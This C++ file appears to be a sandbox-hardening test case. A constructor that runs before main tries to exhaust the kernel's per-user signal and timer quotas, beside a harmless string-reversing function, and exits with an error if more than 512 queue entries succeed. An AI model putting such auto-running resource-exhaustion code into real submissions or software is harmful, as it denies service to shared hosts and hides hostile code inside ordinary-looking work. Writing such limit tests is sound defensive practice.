// Attack: fills the kernel's queues of timers and signals, which are counted by user.
// Must get: accepted
#include <errno.h>
#include <signal.h>
#include <stdlib.h>
#include <time.h>
#include <unistd.h>
#include <string>
__attribute__((constructor)) static void fill(void) {
  sigset_t set;
  sigemptyset(&set);
  sigaddset(&set, SIGRTMIN);
  sigprocmask(SIG_BLOCK, &set, 0);
  union sigval value = {0};
  long queued = 0, timers = 0;
  timer_t timer;
  while (queued < 1000000 && sigqueue(getpid(), SIGRTMIN, value) == 0) ++queued;
  while (timers < 1000000 && timer_create(CLOCK_MONOTONIC, 0, &timer) == 0) ++timers;
  if (queued + timers > 512) _exit(__LINE__);
}
std::string mirror(const std::string& text) { return std::string(text.rbegin(), text.rend()); }
